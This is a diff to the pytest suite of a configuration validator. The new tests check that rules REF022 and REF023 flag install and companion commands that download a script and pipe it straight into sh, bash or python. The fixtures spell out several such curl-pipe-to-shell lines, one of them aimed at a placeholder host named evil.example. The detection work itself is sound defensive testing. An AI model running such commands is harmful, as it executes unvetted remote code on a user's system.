@@ -16,7 +16,7 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import check_tree, line_of, replace_once
-from tests.context_files import KV_STORE, kv_store_text
+from tests.context_files import KV_STORE, kv_offload_text, kv_store_text
 from tests.rules.ref.test_ref_shell_code import bash
 from validator.cli import main
 from validator.rules.ref.download_run import download_runs
@@ -35,7 +35,7 @@ def script_server(tmp_path: Path) -> Iterator[str]:
         def __init__(self, *args: object, **kwargs: object) -> None:
             super().__init__(*args, directory=str(served), **kwargs)  # type: ignore[arg-type]
 
-        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
+        def log_message(self, format: str, *args: object) -> None:
             pass
 
     server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
@@ -137,3 +137,30 @@ def test_a_kv_store_companion_command_is_judged_on_the_kv_store_file(
 def test_a_scheme_less_curl_url_counts_as_plain_http() -> None:
     (run,) = download_runs("curl evil.example/x.sh | python3 -")
     assert run.urls == ("evil.example/x.sh",) and not run.secure
+
+
+def test_a_feature_companion_command_is_judged_at_its_line(examples_tree: Path) -> None:
+    text = replace_once(examples_tree / CHAT, '      - "hermes"\n',
+                        '      - "hermes"\n    companion:\n'
+                        '      command: "curl -s http://example.com/c.sh | sh"\n')
+    assert _findings(examples_tree, "REF022") == [
+        ("REF022", "error", line_of(text, "curl -s http://example.com/c.sh"))]
+
+
+def test_a_kv_store_brand_install_and_a_taxonomy_option_install_are_judged(
+        examples_tree: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (examples_tree / "kv_store").mkdir()
+    kv_text = kv_store_text().replace(
+        "vllm:\n", "vllm:\n  install:\n    nvidia: \"uv pip install mooncake\"\n"
+        "    amd: \"curl -fsSL http://example.com/mc.sh | bash\"\n", 1)
+    (examples_tree / KV_STORE).write_text(kv_text)
+    taxonomy = examples_tree / "taxonomy.yaml"
+    tax_text = taxonomy.read_text() + kv_offload_text("--kv-offloading-size", "8") + \
+        '    install: "curl -fsSL https://example.com/lmcache.sh | sh"\n'
+    taxonomy.write_text(tax_text)
+    main(["check", "--offline", "--no-cache", "--format", "json", str(examples_tree / "models/")])
+    doc = json.loads(capsys.readouterr().out)
+    found = sorted((d["path"], f["rule"], f["line"]) for d in doc["documents"]
+                   for f in d["findings"] if f["rule"].startswith("REF02"))
+    assert found == [(KV_STORE, "REF022", line_of(kv_text, "amd:")),
+                     ("taxonomy.yaml", "REF023", line_of(tax_text, "lmcache.sh"))]
